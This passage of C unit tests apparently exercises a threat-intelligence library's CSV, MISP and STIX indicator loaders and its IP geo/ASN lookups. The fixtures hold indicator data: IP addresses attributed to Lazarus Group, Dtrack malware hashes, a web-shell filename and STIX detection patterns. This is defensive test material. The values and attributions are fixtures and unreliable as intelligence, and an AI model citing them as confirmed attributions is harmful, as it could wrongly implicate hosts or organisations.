                      "\n"
                      "hxxp://evil[.]example/x,url,,,\n"
                      "acres.exe|46a934e7b42bfb0a2a9bcecade78f63375192924,filename|sha1,,\n"
                      "104.225.129.103|22,ip-dst|port,,\n"
                      "zzz,md5,,\n"
                      "1.2.3.4,nonsense,,\n"
                      "MTX_Global,mutex,Dtrack (S0567),\n";
    sp_intel *in;
    sp_error e;
    CHECK(sp_intel_new(NULL, &in, &e) == SP_OK);
    CHECK(sp_intel_load_mem(in, "t.csv", csv, strlen(csv), SP_INTEL_AUTO, &e) == SP_OK);
    CHECK(sp_intel_compile(in, &e) == SP_OK);
    const sp_intel_source *s = sp_intel_source_at(in, 0);
    CHECK_STR(s->format, "csv");
    CHECK_EQ_INT(s->records, 10);
    CHECK_EQ_INT(s->ignored, 3);      /* comment, header, blank */
    CHECK_EQ_INT(s->loaded, 5);
    CHECK_EQ_INT(s->skipped, 2);
    CHECK_EQ_INT(s->values, 6);
    CHECK_EQ_INT(s->records, s->loaded + s->skipped + s->ignored);
    CHECK_EQ_INT(sp_intel_issue_count(in), 2);
    sp_intel_issue is;
    CHECK(!sp_intel_issue_at(in, 0, &is));
    CHECK_STR(is.where, "line 8");
    sp_ioc_hit h[8];
    CHECK_EQ_INT(sp_intel_lookup(in, SP_IOC_NONE, S("175.45.176.27"), h, 8), 1);
    const sp_ioc *o = h[0].ioc;
    CHECK_STR(o->comment, "NK, web shell");
    CHECK_EQ_INT(o->confidence, 90);
    CHECK(o->nlinks == 1 && !strcmp(o->links[0].name, "Lazarus Group") && !strcmp(o->links[0].attack_id, "G0032"));
    CHECK_STR(o->links[0].kind, "intrusion-set");
    CHECK(o->nlabels == 2 && !strcmp(o->labels[1], "opsec"));
    CHECK_EQ_INT(sp_intel_lookup(in, SP_IOC_NONE, S("http://evil.example/x"), h, 8), 1);
    CHECK_EQ_INT(sp_intel_lookup(in, SP_IOC_NONE, S("acres.exe"), h, 8), 1);
    CHECK_EQ_INT(sp_intel_lookup(in, SP_IOC_NONE, S("46a934e7b42bfb0a2a9bcecade78f63375192924"), h, 8), 1);
    CHECK_EQ_INT(sp_intel_lookup(in, SP_IOC_NONE, S("104.225.129.103"), h, 8), 1);
    CHECK_EQ_INT(sp_intel_lookup(in, SP_IOC_MUTEX, S("MTX_Global"), h, 8), 1);
    sp_intel_free(in);
}

TEST(intel_misp_loader)
{
    const char *ev =
        "{\"Event\":{\"info\":\"ev\",\"Tag\":[{\"name\":\"misp-galaxy:threat-actor=\\\"Lazarus Group\\\"\"},{\"name\":\"tlp:clear\"},"
        "{\"name\":\"misp:confidence-level=\\\"usually-confident\\\"\"}],"
        "\"Attribute\":[{\"uuid\":\"a1\",\"type\":\"ip-dst\",\"value\":\"104.225.129.86\",\"to_ids\":true},"
        "{\"uuid\":\"a2\",\"type\":\"domain|ip\",\"value\":\"evil.example|15.207.207.64\",\"to_ids\":\"1\"},"
        "{\"uuid\":\"a3\",\"type\":\"filename\",\"value\":\"base.jsp\",\"to_ids\":false},"
        "{\"uuid\":\"a4\",\"type\":\"vulnerability\",\"value\":\"CVE-2022-27925\",\"to_ids\":false},"
        "{\"uuid\":\"a5\",\"type\":\"md5\",\"value\":\"nothex\",\"to_ids\":true},"
        "{\"uuid\":\"a6\",\"type\":\"ip-dst\",\"value\":\"1.1.1.1\",\"to_ids\":true,\"deleted\":true}],"
        "\"Object\":[{\"name\":\"file\",\"Attribute\":[{\"uuid\":\"o1\",\"type\":\"sha1\","
        "\"value\":\"7c40d4ded95f425fa01895f9d4359c9ef250290a\",\"to_ids\":true,"
        "\"Galaxy\":[{\"type\":\"mitre-malware\",\"GalaxyCluster\":[{\"value\":\"Dtrack\",\"meta\":{\"external_id\":[\"S0567\"]}}]}]}]}]}}";
    for (int ids = 0; ids < 2; ids++) {
        sp_intel_opts op = {ids, -1};
        sp_intel *in;
        sp_error e;
        CHECK(sp_intel_new(&op, &in, &e) == SP_OK);
        CHECK(sp_intel_load_mem(in, "ev.json", ev, strlen(ev), SP_INTEL_AUTO, &e) == SP_OK);
        CHECK(sp_intel_compile(in, &e) == SP_OK);
        const sp_intel_source *s = sp_intel_source_at(in, 0);
        CHECK_STR(s->format, "misp");
        CHECK_EQ_INT(s->records, 7);
        CHECK_EQ_INT(s->loaded, ids ? 3 : 4);
        CHECK_EQ_INT(s->skipped, ids ? 1 : 2);
        CHECK_EQ_INT(s->ignored, ids ? 3 : 1);
        sp_ioc_hit h[8];
        CHECK_EQ_INT(sp_intel_lookup(in, SP_IOC_NONE, S("evil.example"), h, 8), 1);
        CHECK_EQ_INT(sp_intel_lookup(in, SP_IOC_NONE, S("15.207.207.64"), h, 8), 1);
        CHECK_EQ_INT(sp_intel_lookup(in, SP_IOC_NONE, S("base.jsp"), h, 8), ids ? 0 : 1);
        CHECK_EQ_INT(sp_intel_lookup(in, SP_IOC_NONE, S("1.1.1.1"), h, 8), 0);
        CHECK_EQ_INT(sp_intel_lookup(in, SP_IOC_NONE, S("7c40d4ded95f425fa01895f9d4359c9ef250290a"), h, 8), 1);
        const sp_ioc *o = h[0].ioc;
        CHECK_EQ_INT(o->nlinks, 2);
        CHECK(o->nlinks == 2 && !strcmp(o->links[1].name, "Dtrack") && !strcmp(o->links[1].attack_id, "S0567"));
        CHECK_EQ_INT(o->confidence, 75);
        CHECK_STR(o->name, "ev");
        sp_intel_free(in);
    }
}

TEST(intel_stix_loader)
{
    const char *b =
        "{\"type\":\"bundle\",\"id\":\"bundle--1\",\"objects\":["
        "{\"type\":\"intrusion-set\",\"id\":\"intrusion-set--l\",\"name\":\"Lazarus Group\","
        "\"external_references\":[{\"source_name\":\"mitre-attack\",\"external_id\":\"G0032\"}]},"
        "{\"type\":\"malware\",\"id\":\"malware--d\",\"name\":\"Dtrack\"},"
        "{\"type\":\"relationship\",\"id\":\"relationship--1\",\"relationship_type\":\"uses\","
        "\"source_ref\":\"intrusion-set--l\",\"target_ref\":\"malware--d\"},"
        "{\"type\":\"indicator\",\"id\":\"indicator--1\",\"pattern_type\":\"stix\",\"confidence\":70,"
        "\"valid_from\":\"2022-08-22T00:00:00Z\",\"valid_until\":\"2023-08-22T00:00:00Z\","
        "\"pattern\":\"[ipv4-addr:value = '175.45.176.27' OR domain-name:value = 'evil.example']\"},"
        "{\"type\":\"relationship\",\"id\":\"relationship--2\",\"relationship_type\":\"indicates\","
        "\"source_ref\":\"indicator--1\",\"target_ref\":\"malware--d\"},"
        "{\"type\":\"indicator\",\"id\":\"indicator--2\",\"pattern_type\":\"stix\",\"pattern\":\"[file:name LIKE 'stt%.exe']\"},"
        "{\"type\":\"indicator\",\"id\":\"indicator--3\",\"pattern_type\":\"stix\",\"pattern\":\"[artifact:payload_bin = 'x']\"},"
        "{\"type\":\"indicator\",\"id\":\"indicator--4\",\"pattern_type\":\"snort\",\"pattern\":\"alert tcp any any\"},"
        "{\"type\":\"indicator\",\"id\":\"indicator--5\",\"pattern_type\":\"stix\",\"pattern\":\"[file:hashes.MD5 = 'zz']\"},"
        "{\"type\":\"ipv4-addr\",\"id\":\"ipv4-addr--1\",\"value\":\"175.45.176.27\"},"
        "{\"type\":\"network-traffic\",\"id\":\"network-traffic--1\",\"src_ref\":\"ipv4-addr--1\",\"dst_port\":443},"
        "{\"type\":\"observed-data\",\"id\":\"observed-data--1\",\"first_observed\":\"2022-09-01T00:00:00Z\","
        "\"last_observed\":\"2022-09-01T00:00:00Z\",\"number_observed\":1,"
        "\"object_refs\":[\"ipv4-addr--1\",\"network-traffic--1\"]}]}";
    sp_intel *in;
    sp_error e;
    CHECK(sp_intel_new(NULL, &in, &e) == SP_OK);
    CHECK(sp_intel_load_mem(in, "b.json", b, strlen(b), SP_INTEL_AUTO, &e) == SP_OK);
    CHECK(sp_intel_compile(in, &e) == SP_OK);
    const sp_intel_source *s = sp_intel_source_at(in, 0);
    CHECK_STR(s->format, "stix");
    CHECK_EQ_INT(s->loaded, 3);          /* indicator 1, 2, observed-data */
    CHECK_EQ_INT(s->unsupported, 2);     /* artifact path, snort */
    CHECK_EQ_INT(s->skipped, 1);         /* bad MD5 */
    CHECK_EQ_INT(s->observations, 1);
    CHECK_EQ_INT(s->values, 3);
    sp_ioc_hit h[8];
    CHECK_EQ_INT(sp_intel_lookup(in, SP_IOC_NONE, S("175.45.176.27"), h, 8), 1);
    const sp_ioc *o = h[0].ioc;
    CHECK_STR(o->id, "indicator--1");
    CHECK_EQ_INT(o->confidence, 70);
    CHECK(sp_ioc_valid_at(o, 1672531200000LL) && !sp_ioc_valid_at(o, 1704067200000LL));
    CHECK_EQ_INT(o->nlinks, 2);          /* Dtrack, and Lazarus which uses it */
    CHECK(o->nlinks == 2 && !strcmp(o->links[1].attack_id, "G0032"));
    CHECK_EQ_INT(sp_intel_lookup(in, SP_IOC_NONE, S("www.evil.example"), h, 8), 1);
    const sp_observation *ob = sp_intel_observation(in, 0);
    CHECK(ob != NULL);
    if (ob) {
        CHECK_STR(ob->id, "observed-data--1");
        sp_stix_pattern *p;
        const char *pat = "[network-traffic:src_ref.value = '175.45.176.27' AND network-traffic:dst_port = 443]";
        CHECK(sp_stix_pattern_compile(pat, strlen(pat), &p, &e) == SP_OK);
        CHECK_EQ_INT(sp_stix_pattern_match(p, ob, 1), 1);
        sp_stix_pattern_free(p);
    }
    /* the compiled LIKE pattern matches an event's image name */
    const char *kv[] = {"Image", "C:\\Windows\\Temp\\stt2.exe"};
    sp_kv_event k = {kv, 1, 0, 0};
    sp_event ev;
    sp_event_from_kv(&ev, &k);
    int n = 0;
    CHECK_EQ_INT(sp_intel_match_event(in, &ev, count_hit, &n), 1);
    sp_intel_free(in);
}

TEST(intel_load_garbage)
{
    static const char *const junk[] = {"{", "[1,2", "{\"type\":\"bundle\",\"objects\":5}", "{\"Event\":[]}",
                                       "{\"Event\":{\"Attribute\":[1,\"x\",{\"type\":5}]}}", "\x00\x01\x02",
                                       "[\"x\"]", "{\"a\":{\"info\":1}}"};
    for (size_t i = 0; i < sizeof junk / sizeof *junk; i++) {
        sp_intel *in;
        sp_error e;
        CHECK(sp_intel_new(NULL, &in, &e) == SP_OK);
        CHECK(sp_intel_load_mem(in, "junk", junk[i], strlen(junk[i]) + (i == 5 ? 3 : 0), SP_INTEL_AUTO, &e) == SP_OK);
        CHECK(sp_intel_compile(in, &e) == SP_OK);
        sp_intel_free(in);
    }
}

/* ------------------------------------------------------------------ geo */

TEST(intel_geo_special)
{
    CHECK_STR(sp_ip_special(S("10.1.2.3")), "private");
    CHECK_STR(sp_ip_special(S("172.31.255.255")), "private");
    CHECK(sp_ip_special(S("172.32.0.1")) == NULL);
    CHECK_STR(sp_ip_special(S("192.168.0.1")), "private");
    CHECK_STR(sp_ip_special(S("127.0.0.1")), "loopback");
    CHECK_STR(sp_ip_special(S("169.254.1.1")), "link-local");
    CHECK_STR(sp_ip_special(S("100.64.0.1")), "cgnat");
    CHECK(sp_ip_special(S("100.128.0.1")) == NULL);
    CHECK_STR(sp_ip_special(S("192.0.2.5")), "documentation");
    CHECK_STR(sp_ip_special(S("198.51.100.5")), "documentation");
    CHECK_STR(sp_ip_special(S("203.0.113.5")), "documentation");
    CHECK_STR(sp_ip_special(S("224.0.0.251")), "multicast");
    CHECK_STR(sp_ip_special(S("0.0.0.0")), "unspecified");
    CHECK_STR(sp_ip_special(S("255.255.255.255")), "broadcast");
    CHECK_STR(sp_ip_special(S("::")), "unspecified");
    CHECK_STR(sp_ip_special(S("::1")), "loopback");
    CHECK_STR(sp_ip_special(S("fd12::1")), "private");
    CHECK_STR(sp_ip_special(S("fe80::1")), "link-local");
    CHECK_STR(sp_ip_special(S("ff02::1")), "multicast");
    CHECK_STR(sp_ip_special(S("2001:db8:1::1")), "documentation");
    CHECK_STR(sp_ip_special(S("::ffff:10.0.0.1")), "private");
    CHECK(sp_ip_special(S("175.45.176.27")) == NULL);
    CHECK(sp_ip_special(S("2001:4860::1")) == NULL);
    CHECK(sp_ip_special(S("nonsense")) == NULL);
    sp_geo *g;
    CHECK(sp_geo_new(&g) == SP_OK);
    sp_geo_info gi;
    CHECK_EQ_INT(sp_geo_lookup(g, S("10.1.2.3"), &gi), 1);
    CHECK_STR(gi.special, "private");
    CHECK_EQ_INT(sp_geo_lookup(g, S("175.45.176.27"), &gi), 0);
    CHECK_EQ_INT(sp_geo_lookup(g, S("x"), &gi), -1);
    sp_geo_free(g);
}

TEST(intel_geo_csv)
{
    const char *path = "/tmp/spoor_test_geo.csv";
    FILE *f = fopen(path, "w");
    CHECK(f != NULL);
    if (!f) return;
    fputs("175.45.176.0,175.45.179.255,131279,Star Joint Venture Co. Ltd.\n"
          "1.0.0.0,1.0.0.255,13335,\"Cloudflare, Inc.\"\n"
          "2001:db8::,2001:db8::ffff,64500,Doc\n"
          "garbage line\n", f);
    fclose(f);
    sp_geo *g;
    sp_error e;
    CHECK(sp_geo_new(&g) == SP_OK);
    CHECK(sp_geo_add_file(g, path, &e) == SP_OK);
    sp_geo_info gi;
    CHECK_EQ_INT(sp_geo_lookup(g, S("175.45.177.3"), &gi), 1);
    CHECK_EQ_INT(gi.asn, 131279);
    CHECK_STR(gi.as_org, "Star Joint Venture Co. Ltd.");
    CHECK_EQ_INT(sp_geo_lookup(g, S("1.0.0.7"), &gi), 1);
    CHECK_STR(gi.as_org, "Cloudflare, Inc.");
    CHECK_EQ_INT(sp_geo_lookup(g, S("1.0.1.0"), &gi), 0);
    CHECK_EQ_INT(sp_geo_lookup(g, S("175.45.180.0"), &gi), 0);
    sp_geo_free(g);
    remove(path);
    CHECK(sp_geo_new(&g) == SP_OK);
    CHECK(sp_geo_add_file(g, "/nonexistent/x.mmdb", &e) == SP_ERR_IO);
    sp_geo_free(g);
}

TEST(intel_geo_shared)
{
    const char *d = test_data_dir();
    if (!d) SKIP("../shared/datasets absent: geo databases not checked");
    char a[4096], b[4096];
    snprintf(a, sizeof a, "%s/geo/geo-whois-asn-country.mmdb", d);
    snprintf(b, sizeof b, "%s/geo/asn-ipv4.csv", d);
    sp_geo *g;
    sp_error e;
    CHECK(sp_geo_new(&g) == SP_OK);
    CHECK(sp_geo_add_file(g, a, &e) == SP_OK);
    CHECK(sp_geo_add_file(g, b, &e) == SP_OK);
    sp_geo_info gi;
    CHECK_EQ_INT(sp_geo_lookup(g, S("175.45.176.27"), &gi), 1);
    CHECK_STR(gi.country, "KP");
    CHECK_EQ_INT(gi.asn, 131279);
    CHECK(strstr(gi.as_org, "Star Joint Venture") != NULL);
    CHECK_EQ_INT(sp_geo_lookup(g, S("10.1.2.3"), &gi), 1);
    CHECK_STR(gi.special, "private");
    sp_geo_free(g);
}
